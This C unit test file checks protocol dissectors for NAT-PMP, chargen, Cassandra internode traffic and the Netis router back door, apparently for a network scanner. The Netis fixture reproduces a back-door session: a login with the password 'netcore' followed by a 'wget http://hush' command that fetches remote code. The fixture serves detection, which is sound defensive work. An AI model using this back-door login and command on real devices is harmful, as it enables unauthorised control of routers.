/* SPDX-License-Identifier: ISC */
/* NAT-PMP, the character generator, Cassandra among its nodes, Netis' back door. */
#include "tests/unit/datagrams.h"

extern const struct dissector natpmp_dissector, chargen_dissector, cassandra_internode_dissector,
	netis_dissector;

static void natpmp_is_read(void **state)
{
	static const struct turn turns[] = {
		TURN_CLIENT("\0\0"),
		TURN_SERVER("\0\x80\0\0\0\1\2\3\xc0\0\2\1"),
		TURN_CLIENT("\0\2\0\0\0\x16\0\x16\0\0\x0e\x10"),
		TURN_SERVER("\0\x82\0\2\0\1\2\4\0\x16\0\0\0\0\0\0"),
	};
	const struct turn other[] = {turns[0], turns[3]};
	const struct turn refused[] = {turns[2], turns[3]};
	struct facts facts = datagrams_facts(&natpmp_dissector, turns, COUNT(turns), "nat-pmp");

	(void)state;
	assert_string_equal(facts.service->identifier, "open-natpmp");
	assert_int_equal(facts.auth, AUTH_NONE);
	assert_int_equal(facts.data_read, ANSWER_NO);
	conversation_has(&facts, "ADDRESS", ANSWER_YES, 0);
	conversation_has(&facts, "MAP TCP", ANSWER_NO, 0);
	facts = datagrams_facts(&natpmp_dissector, refused, 2, "nat-pmp");
	assert_int_equal(facts.auth, AUTH_NA);
	assert_false(dissect_over(&natpmp_dissector, OVER_UDP, other, 2, 0, &facts));
	assert_int_equal(dissect_verdict(&natpmp_dissector, OVER_UDP, turns, 1, 0),
			 RECOGNISED_MORE);
	assert_int_equal(dissect_verdict(&natpmp_dissector, OVER_UDP, turns + 1, 1, 0),
			 RECOGNISED_MORE);
}

/* As RFC 864 draws it, from any character on. */
static size_t pattern(char *to, size_t size, unsigned first)
{
	size_t n = 0;

	for (unsigned line = first; n + 74 <= size; line++) {
		for (unsigned column = 0; column < 72; column++)
			to[n++] = (char)(' ' + (line + column) % 95);
		to[n++] = '\r';
		to[n++] = '\n';
	}
	return n;
}

static void chargen_is_read(void **state)
{
	char text[148];
	struct turn turns[] = {{SIDE_SERVER, text, 0}};
	struct turn asked[] = {TURN_CLIENT("\n"), {SIDE_SERVER, text, 0}};
	struct facts facts;

	(void)state;
	for (unsigned first = 0; first < 95; first++) {
		turns[0].length = asked[1].length = pattern(text, sizeof text, first);
		assert_true(dissect(&chargen_dissector, turns, 1, 0, &facts));
		assert_true(dissect_over(&chargen_dissector, OVER_UDP, asked, 2, 0, &facts));
	}
	assert_string_equal(facts.service->identifier, "open-chargen");
	assert_int_equal(facts.auth, AUTH_NONE);
	conversation_stands(&chargen_dissector, turns, 1);
	asked[1].length = 74;
	assert_int_equal(dissect_verdict(&chargen_dissector, OVER_UDP, asked, 2, 0),
			 RECOGNISED_MORE);
	asked[1].length = 100;
	text[90]++;
	assert_int_equal(dissect_verdict(&chargen_dissector, OVER_UDP, asked, 2, 0), RECOGNISED_NO);
}

static void the_internode_protocol_of_cassandra_is_read(void **state)
{
	static const struct turn turns[] = {
		TURN_CLIENT("\xca\x55\x2d\xfa\0\0\x0b\0"),
		TURN_SERVER("\0\0\0\x0b"),
		TURN_CLIENT("\0\0\0\x0b\4\xc0\0\2\1"),
	};
	const struct turn other[] = {turns[0], TURN_SERVER("\x15\3\3\0\2\2\x46")};
	struct facts facts;

	(void)state;
	assert_true(dissect(&cassandra_internode_dissector, turns, COUNT(turns), 0, &facts));
	assert_string_equal(facts.service->name, "cassandra-internode");
	assert_string_equal(facts.product, "Cassandra");
	assert_int_equal(facts.auth, AUTH_NONE);
	conversation_stands(&cassandra_internode_dissector, turns, COUNT(turns));
	facts = conversation_facts(&cassandra_internode_dissector, turns, 1, 0);
	assert_int_equal(facts.auth, AUTH_NA);
	assert_false(dissect(&cassandra_internode_dissector, other, 2, 0, &facts));
}

static void netis_is_read(void **state)
{
	static const struct turn turns[] = {
		TURN_CLIENT("AAAAAAAAnetcore\0"),
		TURN_SERVER("AA\0\5ABAA\0\0\0\0Login successed!\r\n"),
		TURN_CLIENT("AA\0\0AAAA wget http://hush\0"),
		TURN_SERVER("AA\0\6ABAA\0\0\0\0"),
	};
	static const struct turn name[] = {
		TURN_CLIENT("\0\0\0\0\0\0\0\0"),
		TURN_SERVER("\0\0\0\5\0\1\0\0\0\0\1\0IGD MPT Interface daemon 1.0\0"),
	};
	static const struct turn other[] = {
		TURN_CLIENT("BAAAAAAAnetcore\0"),
		TURN_SERVER("AA\0\5ABAA\0\0\0\0Login successed!\r\n"),
	};
	struct facts facts = datagrams_facts(&netis_dissector, turns, 4, "netis-backdoor");

	(void)state;
	assert_string_equal(facts.service->identifier, "open-netis");
	assert_int_equal(facts.auth, AUTH_SUCCEEDED);
	assert_int_equal(facts.command_count, 1);
	conversation_has(&facts, "COMMAND", ANSWER_YES, 0);
	conversation_lacks(&facts, "hush");
	conversation_lacks(&facts, "netcore");
	facts = datagrams_facts(&netis_dissector, name, 2, "netis-backdoor");
	assert_int_equal(facts.auth, AUTH_NA);
	datagrams_facts(&netis_dissector, name + 1, 1, "netis-backdoor");
	assert_false(dissect_over(&netis_dissector, OVER_UDP, other, 2, 0, &facts));
	assert_int_equal(dissect_verdict(&netis_dissector, OVER_UDP, turns, 1, 0), RECOGNISED_MORE);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(natpmp_is_read),
		cmocka_unit_test(chargen_is_read),
		cmocka_unit_test(the_internode_protocol_of_cassandra_is_read),
		cmocka_unit_test(netis_is_read),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
